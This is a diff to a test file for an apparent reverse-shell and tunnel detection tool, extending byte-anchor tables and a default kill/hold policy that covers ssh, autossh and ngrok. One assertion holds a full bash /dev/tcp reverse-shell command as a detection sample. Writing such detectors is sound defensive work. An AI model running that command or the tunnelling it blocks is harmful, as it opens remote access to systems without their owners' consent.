@@ -56,7 +56,9 @@ def test_anchor_table_is_little_endian_windows_with_kinds():
     table = anchor_table()
     assert table[int.from_bytes(b"mini", "little")] == AnchorKind.PAYLOAD
     assert table[int.from_bytes(b"/tcp", "little")] == AnchorKind.ARGV
-    assert all(0 < kinds <= 3 for kinds in table.values())
+    assert table[int.from_bytes(b"\0\0$'", "little")] == AnchorKind.ARGV_PAIR
+    assert all(0 < kinds <= int(AnchorKind.PAYLOAD | AnchorKind.ARGV | AnchorKind.ARGV_PAIR)
+               for kinds in table.values())
     assert has_anchor(b"bash -i >& /dev/tcp/198.18.0.1/4444 0>&1", AnchorKind.ARGV)
     assert not has_anchor(b"bash -c ls -la /tmp", AnchorKind.ARGV)
 
@@ -65,7 +67,7 @@ def test_the_default_policy_enforces_and_tells_the_kernel_what_to_hold():
     default = default_policy()
     flags, stdio = kernel_detection(default)
     assert flags == DetectFlags.PAYLOAD | DetectFlags.HOLD | DetectFlags.DNS | \
-        DetectFlags.STDIO_SOCKET
+        DetectFlags.STDIO_SOCKET | DetectFlags.HOLD_TUNNEL     # tunnelTool: block
     assert stdio == Action.KILL
     holds = exec_holds(default)
     assert holds["ssh"] == holds["autossh"] == holds["ngrok"] == ExecHold.ALWAYS
